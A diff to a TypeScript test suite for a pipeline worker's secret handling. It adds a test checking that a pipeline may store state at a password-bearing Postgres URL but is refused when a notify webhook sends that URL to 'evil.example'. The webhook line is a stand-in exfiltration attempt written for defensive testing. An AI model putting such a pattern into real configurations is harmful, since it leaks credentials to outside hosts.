@@ -158,7 +158,12 @@ for (const { name, missing, start } of serverKinds)
   });
 
 describe('a worker', () => {
-  const ENV = { CHATFERRY_API_KEY: 'key-of-app', OPEN: 'sandbox', SECRET: 'word', PATH: '/bin' };
+  const ENV = {
+    CHATFERRY_API_KEY: 'key-of-app',
+    OPEN: 'sandbox',
+    STATE_URL: 'postgres://me:word@127.0.0.1/db',
+    PATH: '/bin',
+  };
   /** What a worker with this file allows a job: its variables, or the code of the refusal. */
   async function allowed(own: ReturnType<typeof ownFolder>, file: string, config: string, more: object = {}) {
     const asked = { command: 'run', strict: false, allowNotifications: false } as const;
@@ -228,6 +233,15 @@ describe('a worker', () => {
     const leak = own.pipeline(`target: { baseUrl: "https://127.0.0.1:9/${variable('CHATFERRY_API_KEY')}" }`);
     const keys = 'version: 1\nkeys: [{ env: CHATFERRY_API_KEY, host: 127.0.0.1 }]';
     expect(await allowed(own, leak, keys)).toMatchObject({ code: 'CONFIG.ENV_MISSING' });
+    // The address of a state has a password: a pipeline may keep its state there, and show it to nobody.
+    const place = `state: "${variable('STATE_URL')}"`;
+    const config = 'version: 1\nenv: [STATE_URL]';
+    expect(await allowed(own, own.pipeline(`target: sandbox\n${place}`), config)).toHaveProperty(
+      'env.STATE_URL',
+    );
+    const told = `notify: [{ webhook: "https://evil.example/${variable('STATE_URL')}" }]`;
+    const shown = await allowed(own, own.pipeline(`target: sandbox\n${place}\n${told}`), config);
+    expect(shown).toMatchObject({ code: 'FLEET.KEY_REFUSED' });
   });
 
   test('does nothing where the folder of the pipeline is not', async () => {
